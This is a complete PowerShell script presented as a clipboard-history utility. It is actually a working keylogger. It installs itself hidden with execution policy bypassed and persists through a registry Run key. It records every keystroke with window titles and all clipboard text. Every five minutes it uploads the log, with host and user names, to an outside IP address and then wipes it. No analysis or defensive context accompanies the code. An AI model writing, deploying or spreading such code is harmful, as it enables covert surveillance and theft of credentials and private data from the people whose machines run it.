param([switch]$Install)
$dir = Join-Path $env:LOCALAPPDATA 'cliphist'; New-Item -ItemType Directory -Force -Path $dir | Out-Null
$log = Join-Path $dir 'h.log'

if ($Install) {
  Start-Process powershell -WindowStyle Hidden -ArgumentList "-NoProfile -ExecutionPolicy Bypass -File `"$PSCommandPath`""
  $run = 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run'
  Set-ItemProperty -Path $run -Name 'ClipHistory' -Value "powershell -w hidden -ep bypass -f `"$PSCommandPath`""
  return
}

Add-Type -AssemblyName System.Windows.Forms
Add-Type @"
using System; using System.Runtime.InteropServices;
public static class K { [DllImport("user32.dll")] public static extern short GetAsyncKeyState(int v);
  [DllImport("user32.dll")] public static extern IntPtr GetForegroundWindow();
  [DllImport("user32.dll")] public static extern int GetWindowText(IntPtr h, System.Text.StringBuilder s, int n); }
"@

$uploader = {
  param($log)
  while ($true) {
    Start-Sleep -Seconds 300
    if (Test-Path $log) {
      $b = [Convert]::ToBase64String([IO.File]::ReadAllBytes($log))
      try { Invoke-RestMethod -Uri 'http://198.51.100.23:8443/c' -Method Post -Body @{ h = $env:COMPUTERNAME; u = $env:USERNAME; d = $b } | Out-Null
            Clear-Content $log } catch {}
    }
  }
}
Start-Job -ScriptBlock $uploader -ArgumentList $log | Out-Null

$last = ''
while ($true) {
  Start-Sleep -Milliseconds 15
  for ($c = 8; $c -le 254; $c++) {
    if ([K]::GetAsyncKeyState($c) -eq -32767) {
      $sb = New-Object System.Text.StringBuilder 256; [K]::GetWindowText([K]::GetForegroundWindow(), $sb, 256) | Out-Null
      Add-Content -Path $log -Value ("{0}|{1}|{2}" -f (Get-Date -f s), $sb, [char]$c)
    }
  }
  $clip = [System.Windows.Forms.Clipboard]::GetText()
  if ($clip -and $clip -ne $last) { Add-Content -Path $log -Value ("CLIP|" + $clip); $last = $clip }
}
